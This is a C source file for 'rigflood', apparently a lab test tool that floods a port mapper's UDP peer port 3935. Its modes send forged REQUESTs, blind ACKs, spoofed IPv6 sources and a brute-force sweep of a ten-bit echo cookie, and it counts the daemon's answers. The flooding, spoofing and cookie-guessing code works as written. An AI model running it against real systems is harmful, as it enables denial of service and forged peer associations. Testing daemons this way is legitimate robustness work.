/*
 * rigflood: UDP load for the port mapper's peer port (3935), built static on the host and
 * baked into the initramfs like rigtool. IPv4, and IPv6 for `flood request` and `request`
 * (the family is TARGET's; IPv6 endpoints are written [ADDR]:PORT).
 *
 *   rigflood flood request|garbage|pairs|pairs-pm|request-pm|sweep TARGET COUNT [options]
 *       COUNT datagrams (pairs: COUNT REQUEST + ACK pairs) to TARGET:3935 from ONE UDP socket.
 *       request: well-formed REQUESTs (magic 0x04, IPv6 0x06) for the accepting address -a,
 *                each with a random association handle; cp and mapped_cp carry the same
 *                IP (-c, default the bound source address) with random ports, i.e. a
 *                spoofed peer that a daemon cannot tell from a real one by its fields.
 *       garbage: random 64 bytes whose IP-version nibble is neither 4 nor 6 (every
 *                daemon must drop them): the baseline load. IPv4 only.
 *       pairs:   IPv4; each REQUEST (as for request, mapped_cp = cp: identity) is followed at
 *                once by its ACK written blind from it: 48 bytes, magic 0x24, version 0,
 *                pmtime 0, reserved 0, the same handle, cp echoed, ap = -a (on siw the
 *                listener's mapped address is its own), padding zero. The ACCEPT is never
 *                read before the ACK goes out (answers are only drained and counted).
 *       pairs-pm: the same with a port-mapped connecting side: the REQUEST's reserved
 *                (mapped cp) port differs from its cp port; same IP.
 *       request-pm: as request, in the port-mapped shape (mapped cp port != cp port, same
 *                IP): a REQUEST that makes a port mapper hand its kernel a REMOTE_INFO.
 *                With -S NETS (IPv6 only) each datagram comes from a spoofed source: the
 *                -c address with its 4th 16-bit group set to the source's index, i.e. one
 *                /64 per source, -K datagrams from each before the next (cp = the
 *                source); sent with IPV6_FREEBIND and IPV6_PKTINFO, so no answer returns.
 *       sweep:   IPv6 only; COUNT rounds of one port-mapped REQUEST followed by its 1024
 *                blind ACKs, one for each pmtime (0..255) x version bits (0..3): a
 *                sweep of a ten-bit echo cookie (docs/protocol.md §6.12). COUNT counts
 *                rounds; 1025 datagrams each.
 *       A SIGTERM or SIGINT ends the send phase early (the result line is still printed),
 *       so a trickle can run "until the measurement is done".
 *       Every datagram that comes back is drained (non-blocking, during and after the
 *       flood) and counted by type. Output: "send-done sent=N t_sent=T1" as soon as the
 *       last datagram is out (the drain may go on, -l), then one line
 *         sent=N received=M accept=A reject=R ack=K request=Q other=O send_s=S
 *         t_start=T0 t_sent=T1 t_end=T2   (CLOCK_BOOTTIME seconds, as /proc/uptime)
 *       (sent counts datagrams: a pair is two; pairs modes add pairs=P)
 *     options: -b SRC_IP     bind the socket to this local address (the "attacker")
 *              -a IP:PORT    accepting address put into REQUESTs (the victim listener)
 *              -c IP         cp / mapped_cp IP in REQUESTs [the -b address, else -a's]
 *              -r RATE       pace to RATE datagrams per second [0 = as fast as possible]
 *              -l MS         keep draining answers for MS milliseconds after the last send [0]
 *              -B N          datagrams per sendmmsg batch [32]; 1 = a smooth trickle
 *              -s SEED       PRNG seed [time ^ pid]
 *              -p PORT       destination port [3935]
 *              -S NETS       request-pm over IPv6: rotate over NETS spoofed /64 sources [0: -b]
 *              -K N          request-pm -S: datagrams per source before the next [320]
 *
 *   rigflood request TARGET CP_IP:CP_PORT MAPPED_IP:MAPPED_PORT AP_IP:AP_PORT [options]
 *       ONE REQUEST with exactly these addresses (a forged one when CP_IP is not the
 *       sender's), then waits for answers and prints each as
 *         answer type=ACCEPT handle=0x... cp=IP:PORT ap=IP:PORT from=IP:PORT
 *       and finally "sent=1 received=M".
 *     options: -b SRC_IP, -H HANDLE [random], -w MS wait for answers [1000], -p PORT
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PEER_PORT 3935
#define REQ_LEN 64
#define ANS_LEN 48
#define MAX_BATCH 256

static uint64_t rng_state;
static volatile sig_atomic_t stop_sending;

static void on_stop(int sig)
{
	(void)sig;
	stop_sending = 1;
}

static uint64_t rnd(void)
{
	/* xorshift64*: fast, good enough for handles and ports */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545F4914F6CDD1DULL;
}

static double now_boot(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_BOOTTIME, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* an IPv4 or IPv6 address: fam AF_INET (4 bytes used) or AF_INET6 (16) */
struct ipa {
	int fam;
	unsigned char b[16];
};

static int parse_ip(const char *s, struct ipa *a)
{
	char buf[64];
	size_t n = strlen(s);
	if (n >= 2 && s[0] == '[' && s[n - 1] == ']' && n - 2 < sizeof(buf)) {
		memcpy(buf, s + 1, n - 2);
		buf[n - 2] = 0;
		s = buf;
	}
	memset(a, 0, sizeof(*a));
	if (inet_pton(AF_INET, s, a->b) == 1) {
		a->fam = AF_INET;
		return 0;
	}
	if (inet_pton(AF_INET6, s, a->b) == 1) {
		a->fam = AF_INET6;
		return 0;
	}
	return -1;
}

/* "IP:PORT" or "[IP6]:PORT" -> address and port (host order) */
static int parse_ep(const char *s, struct ipa *a, uint16_t *port)
{
	char buf[64];
	const char *colon = strrchr(s, ':');
	if (!colon || (size_t)(colon - s) >= sizeof(buf))
		return -1;
	memcpy(buf, s, colon - s);
	buf[colon - s] = 0;
	if (parse_ip(buf, a))
		return -1;
	*port = (uint16_t)atoi(colon + 1);
	return 0;
}

static socklen_t to_sockaddr(const struct ipa *a, uint16_t port, struct sockaddr_storage *ss)
{
	memset(ss, 0, sizeof(*ss));
	if (a->fam == AF_INET6) {
		struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)ss;
		s6->sin6_family = AF_INET6;
		s6->sin6_port = htons(port);
		memcpy(&s6->sin6_addr, a->b, 16);
		return sizeof(*s6);
	}
	struct sockaddr_in *s4 = (struct sockaddr_in *)ss;
	s4->sin_family = AF_INET;
	s4->sin_port = htons(port);
	memcpy(&s4->sin_addr, a->b, 4);
	return sizeof(*s4);
}

static void put16(unsigned char *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v & 0xff;
}

static int alen(const struct ipa *a)
{
	return a->fam == AF_INET6 ? 16 : 4;
}

/* what a REQUEST and an ACK share: the magic byte (TYPE in the high nibble, the IP version
 * in the low one), ap and cp ports, the 64-bit handle and the cp and ap addresses */
static void put_common(unsigned char *b, unsigned char type, uint64_t handle, const struct ipa *cp,
		       uint16_t cp_port, const struct ipa *ap, uint16_t ap_port)
{
	b[0] = type | (cp->fam == AF_INET6 ? 0x06 : 0x04);
	put16(b + 4, ap_port);
	put16(b + 6, cp_port);
	for (int i = 0; i < 8; i++)
		b[8 + i] = handle >> (56 - 8 * i);
	memcpy(b + 16, cp->b, alen(cp));
	memcpy(b + 32, ap->b, alen(ap));
}

/* a 64-byte REQUEST (magic 0x04 / 0x06); unused address bytes stay zero */
static void build_request(unsigned char *b, uint64_t handle, const struct ipa *cp, uint16_t cp_port,
			  const struct ipa *mapped_cp, uint16_t mapped_port, const struct ipa *ap,
			  uint16_t ap_port)
{
	memset(b, 0, REQ_LEN);
	put_common(b, 0x00, handle, cp, cp_port, ap, ap_port); /* version 0, type REQUEST */
	b[1] = 0;                                                /* pmtime */
	put16(b + 2, mapped_port);
	memcpy(b + 48, mapped_cp->b, alen(mapped_cp));
}

/* the 48-byte ACK an active side would send for that REQUEST's ACCEPT, written blind:
 * magic 0x24 / 0x26 (version 0), pmtime 0, reserved 0, the REQUEST's handle, cp and ap */
static void build_ack(unsigned char *b, uint64_t handle, const struct ipa *cp, uint16_t cp_port,
		      const struct ipa *ap, uint16_t ap_port)
{
	memset(b, 0, ANS_LEN);
	put_common(b, 0x20, handle, cp, cp_port, ap, ap_port);
}

static void build_garbage(unsigned char *b)
{
	for (int i = 0; i < REQ_LEN; i += 8) {
		uint64_t r = rnd();
		memcpy(b + i, &r, 8);
	}
	uint8_t nib = b[0] & 0x0f;
	if (nib == 4 || nib == 6)
		nib ^= 0x08; /* 12 or 14: never a valid IP version */
	b[0] = (b[0] & 0xf0) | nib;
}

struct counts {
	unsigned long received, by_type[4], other;
};

static const char *type_name(int t)
{
	static const char *n[] = { "REQUEST", "ACCEPT", "ACK", "REJECT" };
	return n[t & 3];
}

static void ep_text(const struct sockaddr_storage *ss, char *out, size_t n)
{
	char a[INET6_ADDRSTRLEN] = "?";
	if (ss->ss_family == AF_INET6) {
		const struct sockaddr_in6 *s6 = (const struct sockaddr_in6 *)ss;
		inet_ntop(AF_INET6, &s6->sin6_addr, a, sizeof(a));
		snprintf(out, n, "[%s]:%u", a, ntohs(s6->sin6_port));
	} else {
		const struct sockaddr_in *s4 = (const struct sockaddr_in *)ss;
		inet_ntop(AF_INET, &s4->sin_addr, a, sizeof(a));
		snprintf(out, n, "%s:%u", a, ntohs(s4->sin_port));
	}
}

/* read everything queued on FD without blocking; VERBOSE prints each peer message */
static void drain(int fd, struct counts *c, int verbose)
{
	for (;;) {
		unsigned char b[128];
		struct sockaddr_storage from;
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(fd, b, sizeof(b), MSG_DONTWAIT, (struct sockaddr *)&from, &fl);
		if (n < 0) {
			if (errno == EINTR)
				continue;
			return; /* EAGAIN, or ECONNREFUSED from an ICMP error: nothing more queued */
		}
		c->received++;
		int nib = n > 0 ? (b[0] & 0x0f) : 0;
		if ((n == 48 || n == 64) && (nib == 4 || nib == 6)) {
			int t = (b[0] >> 4) & 3;
			c->by_type[t]++;
			if (verbose) {
				uint64_t h = 0;
				for (int i = 0; i < 8; i++)
					h = (h << 8) | b[8 + i];
				int f = nib == 6 ? AF_INET6 : AF_INET;
				char cp[INET6_ADDRSTRLEN] = "?", ap[INET6_ADDRSTRLEN] = "?", fr[80];
				inet_ntop(f, b + 16, cp, sizeof(cp));
				inet_ntop(f, b + 32, ap, sizeof(ap));
				ep_text(&from, fr, sizeof(fr));
				printf("answer type=%s len=%zd handle=0x%016llx cp=%s:%u ap=%s:%u from=%s\n",
				       type_name(t), n, (unsigned long long)h, cp, (b[6] << 8) | b[7], ap,
				       (b[4] << 8) | b[5], fr);
			}
		} else {
			c->other++;
		}
	}
}

/* poll + drain until the deadline (CLOCK_BOOTTIME seconds); returns early on a stop
 * signal when STOPPABLE */
static void drain_until(int fd, struct counts *c, double deadline, int verbose, int stoppable)
{
	for (;;) {
		if (stoppable && stop_sending)
			break;
		double left = deadline - now_boot();
		if (left <= 0)
			break;
		struct pollfd p = { .fd = fd, .events = POLLIN };
		int ms = (int)(left * 1000) + 1;
		if (poll(&p, 1, ms) > 0)
			drain(fd, c, verbose);
	}
	drain(fd, c, verbose);
}

static int open_socket(const char *src, int fam)
{
	struct ipa me = { .fam = fam };
	if (src && parse_ip(src, &me)) {
		fprintf(stderr, "bad source address %s\n", src);
		return -1;
	}
	if (me.fam != fam) {
		fprintf(stderr, "source address %s is not of the target's family\n", src);
		return -1;
	}
	int fd = socket(fam, SOCK_DGRAM, 0);
	if (fd < 0) {
		perror("socket");
		return -1;
	}
	/* a deep receive queue so that answers are counted, not dropped on our side */
	int sz = 32 << 20;
	if (setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &sz, sizeof(sz)) < 0)
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &sz, sizeof(sz));
	struct sockaddr_storage ss;
	socklen_t sl = to_sockaddr(&me, 0, &ss);
	if (bind(fd, (struct sockaddr *)&ss, sl) < 0) {
		fprintf(stderr, "bind %s: %s\n", src ? src : "any", strerror(errno));
		close(fd);
		return -1;
	}
	return fd;
}

static void print_counts(const struct counts *c, unsigned long sent)
{
	printf("sent=%lu received=%lu accept=%lu reject=%lu ack=%lu request=%lu other=%lu", sent,
	       c->received, c->by_type[1], c->by_type[3], c->by_type[2], c->by_type[0], c->other);
}

static int usage(void)
{
	fprintf(stderr,
		"usage: rigflood flood request|garbage|pairs|pairs-pm|request-pm|sweep TARGET COUNT\n"
		"                      [-b SRC] [-a IP:PORT] [-S NETS] [-K PER_NET]\n"
		"                      [-c IP] [-r RATE] [-l LINGER_MS] [-B BATCH] [-s SEED] [-p PORT]\n"
		"       rigflood request TARGET CP_IP:PORT MAPPED_IP:PORT AP_IP:PORT [-b SRC]\n"
		"                        [-H HANDLE] [-w WAIT_MS] [-p PORT]\n"
		"       (IPv6 endpoints as [ADDR]:PORT)\n");
	return 2;
}

enum mode { M_REQUEST, M_GARBAGE, M_PAIRS, M_PAIRS_PM, M_REQUEST_PM, M_SWEEP };

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif

/* a mapped cp port that differs from cp port P */
static uint16_t other_port(uint16_t p)
{
	uint16_t mp = 1024 + rnd() % 64000;
	return mp != p ? mp : (p == 65023 ? 1024 : p + 1);
}

static int cmd_flood(int argc, char **argv)
{
	if (argc < 5)
		return usage();
	enum mode mode;
	if (!strcmp(argv[2], "request"))
		mode = M_REQUEST;
	else if (!strcmp(argv[2], "garbage"))
		mode = M_GARBAGE;
	else if (!strcmp(argv[2], "pairs"))
		mode = M_PAIRS;
	else if (!strcmp(argv[2], "pairs-pm"))
		mode = M_PAIRS_PM;
	else if (!strcmp(argv[2], "request-pm"))
		mode = M_REQUEST_PM;
	else if (!strcmp(argv[2], "sweep"))
		mode = M_SWEEP;
	else
		return usage();
	int pairs = mode == M_PAIRS || mode == M_PAIRS_PM;
	const char *target = argv[3];
	unsigned long count = strtoul(argv[4], NULL, 0);
	const char *src = NULL, *ap_s = NULL, *cp_s = NULL;
	double rate = 0;
	long linger_ms = 0;
	int batch = 32, port = PEER_PORT;
	unsigned long nets = 0, per_net = 320;
	rng_state = (uint64_t)time(NULL) ^ ((uint64_t)getpid() << 32) ^ 0x9e3779b97f4a7c15ULL;
	optind = 1; /* options follow COUNT: argv[4] plays the program name */
	int o;
	while ((o = getopt(argc - 4, argv + 4, "b:a:c:r:l:B:s:p:S:K:")) != -1) {
		switch (o) {
		case 'b': src = optarg; break;
		case 'a': ap_s = optarg; break;
		case 'c': cp_s = optarg; break;
		case 'r': rate = atof(optarg); break;
		case 'l': linger_ms = atol(optarg); break;
		case 'B': batch = atoi(optarg); break;
		case 's': rng_state = strtoull(optarg, NULL, 0) | 1; break;
		case 'p': port = atoi(optarg); break;
		case 'S': nets = strtoul(optarg, NULL, 0); break;
		case 'K': per_net = strtoul(optarg, NULL, 0); break;
		default: return usage();
		}
	}
	if (batch < 1 || batch > MAX_BATCH)
		batch = 32;
	if (pairs) /* a REQUEST and its ACK always in the same batch, in that order */
		batch = batch < 2 ? 2 : batch & ~1;
	if (pairs)
		count *= 2; /* datagrams */
	if (mode == M_SWEEP)
		count *= 1025; /* a REQUEST and its 1024 guesses per round */
	if (per_net == 0)
		per_net = 1;
	struct ipa tgt;
	if (parse_ip(target, &tgt))
		return usage();
	if ((mode == M_SWEEP || nets > 0) && tgt.fam != AF_INET6) {
		fprintf(stderr, "flood %s%s is IPv6 only\n", argv[2], nets ? " -S" : "");
		return 2;
	}
	if (mode != M_REQUEST && mode != M_REQUEST_PM && mode != M_SWEEP && tgt.fam != AF_INET) {
		fprintf(stderr, "flood %s is IPv4 only\n", argv[2]);
		return 2;
	}
	struct sockaddr_storage to;
	socklen_t tol = to_sockaddr(&tgt, port, &to);
	struct ipa ap = { .fam = tgt.fam }, cp = { .fam = tgt.fam };
	uint16_t ap_port = 0;
	if (mode != M_GARBAGE) {
		if (!ap_s || parse_ep(ap_s, &ap, &ap_port)) {
			fprintf(stderr, "flood %s needs -a IP:PORT (the accepting address)\n", argv[2]);
			return 2;
		}
		const char *cp_ip = cp_s ? cp_s : src;
		if (!cp_ip)
			cp = ap;
		else if (parse_ip(cp_ip, &cp))
			return usage();
		if (ap.fam != tgt.fam || cp.fam != tgt.fam) {
			fprintf(stderr, "-a, -c and TARGET must be of one address family\n");
			return 2;
		}
	}
	int fd = open_socket(src, tgt.fam);
	if (fd < 0)
		return 1;
	int one = 1;
	if (nets > 0 && setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &one, sizeof(one)) < 0) {
		perror("IPV6_FREEBIND");
		return 1;
	}
	struct sigaction sa = { .sa_handler = on_stop };
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	static unsigned char bufs[MAX_BATCH][REQ_LEN];
	struct iovec iov[MAX_BATCH];
	struct mmsghdr msgs[MAX_BATCH];
	static union {
		char buf[CMSG_SPACE(sizeof(struct in6_pktinfo))];
		struct cmsghdr align;
	} ctl[MAX_BATCH];
	struct ipa spoofed = cp;
	uint64_t sweep_h = 0;
	uint16_t sweep_p = 0;
	for (int i = 0; i < batch; i++) {
		iov[i].iov_base = bufs[i];
		iov[i].iov_len = REQ_LEN;
		memset(&msgs[i], 0, sizeof(msgs[i]));
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_name = &to;
		msgs[i].msg_hdr.msg_namelen = tol;
	}
	struct counts c = { 0 };
	unsigned long sent = 0, send_errors = 0;
	double t0 = now_boot();
	while (sent < count && !stop_sending) {
		int n = count - sent < (unsigned long)batch ? (int)(count - sent) : batch;
		for (int i = 0; i < n; i++) {
			if (mode == M_GARBAGE) {
				build_garbage(bufs[i]);
			} else if (mode == M_REQUEST) {
				uint16_t p = 1024 + rnd() % 64000;
				build_request(bufs[i], rnd(), &cp, p, &cp, p, &ap, ap_port);
			} else if (mode == M_REQUEST_PM) {
				uint16_t p = 1024 + rnd() % 64000;
				const struct ipa *from = &cp;
				if (nets > 0) {
					unsigned long net = ((sent + i) / per_net) % nets;
					spoofed.b[6] = net >> 8;
					spoofed.b[7] = net;
					from = &spoofed;
					struct msghdr *h = &msgs[i].msg_hdr;
					h->msg_control = ctl[i].buf;
					h->msg_controllen = sizeof(ctl[i].buf);
					struct cmsghdr *cm = CMSG_FIRSTHDR(h);
					cm->cmsg_level = IPPROTO_IPV6;
					cm->cmsg_type = IPV6_PKTINFO;
					cm->cmsg_len = CMSG_LEN(sizeof(struct in6_pktinfo));
					struct in6_pktinfo pi = { 0 };
					memcpy(&pi.ipi6_addr, spoofed.b, 16);
					memcpy(CMSG_DATA(cm), &pi, sizeof(pi));
				}
				build_request(bufs[i], rnd(), from, p, from, other_port(p), &ap, ap_port);
			} else if (mode == M_SWEEP) {
				unsigned long k = (sent + i) % 1025;
				if (k == 0) {
					sweep_h = rnd();
					sweep_p = 1024 + rnd() % 64000;
					build_request(bufs[i], sweep_h, &cp, sweep_p, &cp, other_port(sweep_p),
						      &ap, ap_port);
					iov[i].iov_len = REQ_LEN;
				} else {
					unsigned g = k - 1;
					build_ack(bufs[i], sweep_h, &cp, sweep_p, &ap, ap_port);
					bufs[i][0] |= (g >> 8) << 6; /* version bits */
					bufs[i][1] = g & 0xff;      /* pmtime */
					iov[i].iov_len = ANS_LEN;
				}
			} else {
				uint16_t p = 1024 + rnd() % 64000, mp = p;
				if (mode == M_PAIRS_PM)
					mp = other_port(p);
				uint64_t h = rnd();
				build_request(bufs[i], h, &cp, p, &cp, mp, &ap, ap_port);
				iov[i].iov_len = REQ_LEN;
				i++;
				build_ack(bufs[i], h, &cp, p, &ap, ap_port);
				iov[i].iov_len = ANS_LEN;
			}
		}
		int done = 0;
		while (done < n) {
			int r = sendmmsg(fd, msgs + done, n - done, 0);
			if (r < 0) {
				if (errno == EINTR)
					continue;
				/* ENOBUFS / ECONNREFUSED (an ICMP error for an earlier datagram): count, go on */
				send_errors++;
				done++;
				continue;
			}
			done += r;
		}
		sent += n;
		drain(fd, &c, 0);
		if (rate > 0) {
			double due = t0 + sent / rate;
			if (due > now_boot())
				drain_until(fd, &c, due, 0, 1);
		}
	}
	double t1 = now_boot();
	/* tells a watcher that the send phase is over while answers are still drained */
	printf("send-done sent=%lu t_sent=%.2f%s\n", sent - send_errors, t1,
	       stop_sending ? " stopped=1" : "");
	if (linger_ms > 0)
		drain_until(fd, &c, t1 + linger_ms / 1000.0, 0, 0);
	drain(fd, &c, 0);
	double t2 = now_boot();
	print_counts(&c, sent - send_errors);
	if (pairs)
		printf(" pairs=%lu", sent / 2);
	printf(" send_errors=%lu send_s=%.2f rate=%.1f t_start=%.2f t_sent=%.2f t_end=%.2f\n",
	       send_errors, t1 - t0, t1 > t0 ? sent / (t1 - t0) : 0.0, t0, t1, t2);
	close(fd);
	return 0;
}

static int cmd_request(int argc, char **argv)
{
	if (argc < 6)
		return usage();
	struct ipa tgt, cp, mcp, ap;
	uint16_t cp_port, mcp_port, ap_port;
	if (parse_ip(argv[2], &tgt) || parse_ep(argv[3], &cp, &cp_port) ||
	    parse_ep(argv[4], &mcp, &mcp_port) || parse_ep(argv[5], &ap, &ap_port))
		return usage();
	if (cp.fam != tgt.fam || mcp.fam != tgt.fam || ap.fam != tgt.fam) {
		fprintf(stderr, "every address must be of one family\n");
		return 2;
	}
	const char *src = NULL;
	long wait_ms = 1000;
	int port = PEER_PORT;
	rng_state = (uint64_t)time(NULL) ^ ((uint64_t)getpid() << 32) ^ 0x9e3779b97f4a7c15ULL;
	uint64_t handle = rnd();
	optind = 1; /* options follow AP: argv[5] plays the program name */
	int o;
	while ((o = getopt(argc - 5, argv + 5, "b:H:w:p:")) != -1) {
		switch (o) {
		case 'b': src = optarg; break;
		case 'H': handle = strtoull(optarg, NULL, 0); break;
		case 'w': wait_ms = atol(optarg); break;
		case 'p': port = atoi(optarg); break;
		default: return usage();
		}
	}
	struct sockaddr_storage to;
	socklen_t tol = to_sockaddr(&tgt, port, &to);
	int fd = open_socket(src, tgt.fam);
	if (fd < 0)
		return 1;
	unsigned char b[REQ_LEN];
	build_request(b, handle, &cp, cp_port, &mcp, mcp_port, &ap, ap_port);
	struct sockaddr_storage me;
	socklen_t ml = sizeof(me);
	if (sendto(fd, b, sizeof(b), 0, (struct sockaddr *)&to, tol) != (ssize_t)sizeof(b)) {
		perror("sendto");
		return 1;
	}
	getsockname(fd, (struct sockaddr *)&me, &ml);
	char mine[80];
	ep_text(&me, mine, sizeof(mine));
	printf("request handle=0x%016llx cp=%s mapped_cp=%s ap=%s to=%s:%d from=%s\n",
	       (unsigned long long)handle, argv[3], argv[4], argv[5], argv[2], port, mine);
	fflush(stdout);
	struct counts c = { 0 };
	drain_until(fd, &c, now_boot() + wait_ms / 1000.0, 1, 0);
	print_counts(&c, 1);
	printf("\n");
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 2 && !strcmp(argv[1], "flood"))
		return cmd_flood(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "request"))
		return cmd_request(argc, argv);
	return usage();
}
